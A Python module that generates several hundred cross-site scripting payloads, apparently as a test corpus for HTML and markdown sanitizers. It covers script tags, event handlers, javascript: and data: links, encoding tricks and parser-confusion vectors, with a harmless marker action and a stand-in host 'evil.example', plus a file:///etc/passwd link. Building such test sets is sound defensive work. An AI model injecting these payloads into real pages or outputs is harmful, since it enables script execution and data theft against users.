"""More than five hundred payloads that try to run a script or to leave the page: vectors, events and obfuscations."""

from html import escape
from itertools import product
from urllib.parse import quote

RUN = "window.ran=1"
OUT = "//evil.example/x"

TAGS = [
    "<script>{}</script>",
    "<script src={o}></script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script\n>{}</script\n>",
    "<script/x>{}</script>",
    "<<script>{}//<</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe src=javascript:parent.{}></iframe>",
    "<object data=javascript:{}></object>",
    "<embed src=javascript:{}>",
    "<base href={o}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<link rel=stylesheet href={o}>",
    "<style>@import '{o}';</style>",
    "<style>*{{background:url({o})}}</style>",
    "<form action=javascript:{}><button>go</button></form>",
    "<math><mtext></mtext><mglyph><style></math><img src=x onerror={}>",
    "<svg><script>{}</script></svg>",
    "<svg><style><img src=x onerror={}></style></svg>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<template><script>{}</script></template>",
    "<xmp><img src=x onerror={}></xmp>",
    "<textarea><img src=x onerror={}></textarea>",
    "<title><img src=x onerror={}></title>",
    "<!--><img src=x onerror={}>-->",
    "<![CDATA[<img src=x onerror={}>]]>",
    "</div></section></main><script>{}</script>",
    "<img src={o}>",
    "<video src={o} autoplay>",
    "<audio src={o} autoplay>",
    "<input type=image src={o}>",
    "<body background={o}>",
    "<table background={o}>",
    "<a href=javascript:{}>go</a>",
    "<a href='&#106;avascript:{}'>go</a>",
    "<a href='java\tscript:{}'>go</a>",
]
ELEMENTS = [
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video><source",
    "marquee",
    "select autofocus",
    "a href=#",
    "p",
    "x tabindex=1",
    "form",
]
EVENTS = ["onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationend", "onpointerenter", "onstart"]
LINKS = [
    "javascript:{}",
    "JAVASCRIPT:{}",
    "java\nscript:{}",
    "\x01javascript:{}",
    "javascript&colon;{}",
    "&#x6A;avascript:{}",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=",
    "vbscript:{}",
    "file:///etc/passwd",
    "blob:{}",
    "//evil.example/x",
    " javascript:{}",
    "javascript://%0a{}",
    "feed:javascript:{}",
    "view-source:javascript:{}",
]
FORMS = [
    "[go]({})",
    "[go](<{}>)",
    "![go]({})",
    "<{}>",
    "[go][x]\n\n[x]: {}",
    "[go]({} 'title\" onmouseover={r} \"')",
    '<a href="{}">go</a>',
    "[![x]({})]({})",
]


def payloads() -> list[str]:
    """Return all payloads, each once."""
    payloads_ = [tag.format(RUN, o=OUT) for tag in TAGS]
    payloads_ += [f"<{element} {event}={RUN}>" for element, event in product(ELEMENTS, EVENTS)]
    payloads_ += [f'<{element}/{event}\n=\n"{RUN}"' for element, event in product(ELEMENTS[:6], EVENTS)]
    links = [link.format(RUN) for link in LINKS]
    payloads_ += [form.format(link, link, r=RUN) for form, link in product(FORMS, links)]
    plain = [tag.format(RUN, o=OUT) for tag in TAGS]
    payloads_ += (
        [f"```html\n{one}\n```" for one in plain]
        + [f"`{one}`" for one in plain]
        + [f"# {one}\n\n> {one}\n\n- {one}" for one in plain]
    )
    payloads_ += (
        [f"| a |\n| - |\n| {one} |" for one in plain[:20]]
        + [escape(one) for one in plain]
        + [quote(one) for one in plain[:10]]
    )
    payloads_ += (
        [f"\"'>{one}" for one in plain]
        + [f"${one}$ and \\({one}\\)" for one in plain]
        + [one.replace("<", "\uff1c").replace("<", "\u2039") for one in plain[:5]]
    )
    payloads_ += [f"{{{{ {RUN} }}}} {one}" for one in plain[:5]] + [
        f"Human: {one}\n\nAssistant: {one}" for one in plain[:20]
    ]
    return list(dict.fromkeys(payloads_))
